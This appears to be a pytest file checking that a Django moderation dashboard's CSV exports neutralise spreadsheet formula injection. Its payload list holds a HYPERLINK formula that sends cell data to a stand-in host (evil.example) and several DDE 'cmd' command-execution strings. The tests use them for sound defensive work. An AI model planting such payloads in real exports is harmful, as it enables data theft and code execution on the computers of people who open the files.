"""Formula injection: every CSV export writes reporter-controlled text through one safe writer.

Cells starting with =, +, -, @, a tab or a CR get a leading apostrophe; numbers, PDQ hex hashes
and plain numeric text stay as they are, and a bank export imports back unchanged.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from dashboard.constants import ClipStatus, DecisionAction
from dashboard.csvsafe import restore_cell, safe_cell
from provenance.exchange import export_bank_csv, import_bank_csv
from provenance.models import HashBank
from tests.insight.helpers import clip_at, decide
from tests.provenance.conftest import banked_entry, fake_original  # noqa: F401 - fixtures

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_defuses_each_trigger_and_restores_it(payload):
    written = safe_cell(payload)
    assert written == "'" + payload
    assert restore_cell(written) == payload


@pytest.mark.parametrize("value", [0, -3, 1.5, -0.25, "-1.5", "+2", "12", "f8f8f0ce" * 8, "tube"])
def test_numbers_hashes_and_plain_text_are_untouched(value):
    assert safe_cell(value) == value


def test_an_apostrophe_value_round_trips():
    assert restore_cell(safe_cell("'=x")) == "'=x"
    assert restore_cell(safe_cell("'quoted")) == "'quoted"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_insight_decisions_csv_defuses_platform(client, senior, moderator, payload):
    now = timezone.now()
    clip = clip_at(now - timedelta(hours=2), ClipStatus.IN_REVIEW, platform=payload)
    decide(clip, moderator, DecisionAction.REMOVE, now - timedelta(hours=1))
    client.force_login(senior)
    response = client.get("/insight/export/decisions.csv")
    assert response.status_code == 200
    [row] = _rows(b"".join(response.streaming_content).decode())
    assert row["platform"] == "'" + payload
    assert row["id"].isdigit() and row["clip"] == clip.public_id.hex


def test_export_insight_command_defuses_platform(tmp_path, moderator):
    now = timezone.now()
    clip = clip_at(now - timedelta(hours=2), ClipStatus.IN_REVIEW, platform=PAYLOADS[0])
    decide(clip, moderator, DecisionAction.REMOVE, now - timedelta(hours=1))
    today = timezone.localdate().isoformat()
    out = tmp_path / "decisions.csv"
    call_command(
        "export_insight", "decisions", "--start", today, "--end", today, "--output", str(out),
        "--no-progress", stdout=io.StringIO(),
    )  # fmt: skip
    [row] = _rows(out.read_text())
    assert row["platform"] == "'" + PAYLOADS[0]


@pytest.fixture
def hostile_entry(banked_entry):  # noqa: F811 - the imported fixture
    banked_entry.persons = [PAYLOADS[0], "@Ana"]
    banked_entry.labels = ["-x"]
    banked_entry.external_id = "+sneaky"
    banked_entry.save()
    return banked_entry


def _assert_bank_csv_safe(text: str, entry) -> None:
    rows = _rows(text)
    assert len(rows) == entry.frame_count
    for row in rows:
        assert row["persons"] == "'" + ";".join(entry.persons)
        assert row["labels"] == "'-x"
        assert row["entry_id"] == "'+sneaky"
        assert row["signal_value"] in entry.hashes.full_hex()  # hex untouched
        assert row["frame_index"].isdigit()
        float(row["time_s"])


def test_provenance_export_command_defuses_persons_and_round_trips(hostile_entry):
    out = io.StringIO()
    call_command("provenance_export", hostile_entry.bank.name, stdout=out)
    _assert_bank_csv_safe(out.getvalue(), hostile_entry)
    [copy] = import_bank_csv(HashBank.objects.create(name="Copy"), out.getvalue())
    assert copy.persons == hostile_entry.persons
    assert copy.labels == ["-x"] and copy.external_id == "+sneaky"
    assert copy.hashes.full_hex() == hostile_entry.hashes.full_hex()
    assert copy.hashes.indices == hostile_entry.hashes.indices


def test_admin_pdq_export_defuses_persons(client, admin_user, hostile_entry):
    client.force_login(admin_user)
    response = client.post(
        "/admin/provenance/hashbank/",
        {"action": "export_csv", "_selected_action": [hostile_entry.bank.pk]},
    )
    assert response.status_code == 200
    _assert_bank_csv_safe(response.content.decode(), hostile_entry)
    assert response.content.decode() == export_bank_csv(hostile_entry.bank)
